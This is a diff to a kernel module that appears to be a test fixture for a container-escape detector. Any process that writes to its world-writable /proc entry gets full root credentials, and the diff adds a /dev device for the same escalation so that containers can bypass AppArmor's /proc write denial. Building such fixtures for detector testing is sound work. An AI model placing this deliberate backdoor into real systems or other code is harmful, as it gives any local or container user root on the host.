@@ -5,9 +5,13 @@
  * commit_creds(prepare_kernel_cred(&init_task)): the payload a kernel exploit runs (CVE-2022-0185,
  * CVE-2024-1086, ...) without the bug. A container task that writes it becomes root in the
  * initial user namespace with every capability, without a setuid exec or a set*id call: the
- * effect SKD-RUN-042 (how: initial-user-namespace) reports.
+ * effect SKD-RUN-042 (how: initial-user-namespace) reports. The same write works on the device
+ * /dev/skd_cred_root, for containers whose AppArmor profile denies writes under /proc (podman's
+ * containers-default): they get it with --device.
  */
 #include <linux/cred.h>
+#include <linux/fs.h>
+#include <linux/miscdevice.h>
 #include <linux/module.h>
 #include <linux/proc_fs.h>
 #include <linux/sched/task.h>
@@ -23,15 +27,29 @@ static ssize_t skd_cred_write(struct file *f, const char __user *buf, size_t n, 
 }
 
 static const struct proc_ops skd_cred_ops = { .proc_write = skd_cred_write };
+static const struct file_operations skd_cred_fops = { .owner = THIS_MODULE, .write = skd_cred_write };
+static struct miscdevice skd_cred_dev = {
+	.minor = MISC_DYNAMIC_MINOR,
+	.name = "skd_cred_root",
+	.fops = &skd_cred_fops,
+	.mode = 0222,
+};
 
 static int __init skd_cred_init(void)
 {
 	/* writable by every user: containers map their users to unprivileged host ids */
-	return proc_create("skd_cred_root", 0222, NULL, &skd_cred_ops) ? 0 : -ENOMEM;
+	if (!proc_create("skd_cred_root", 0222, NULL, &skd_cred_ops))
+		return -ENOMEM;
+	if (misc_register(&skd_cred_dev)) {
+		remove_proc_entry("skd_cred_root", NULL);
+		return -ENODEV;
+	}
+	return 0;
 }
 
 static void __exit skd_cred_exit(void)
 {
+	misc_deregister(&skd_cred_dev);
 	remove_proc_entry("skd_cred_root", NULL);
 }
 
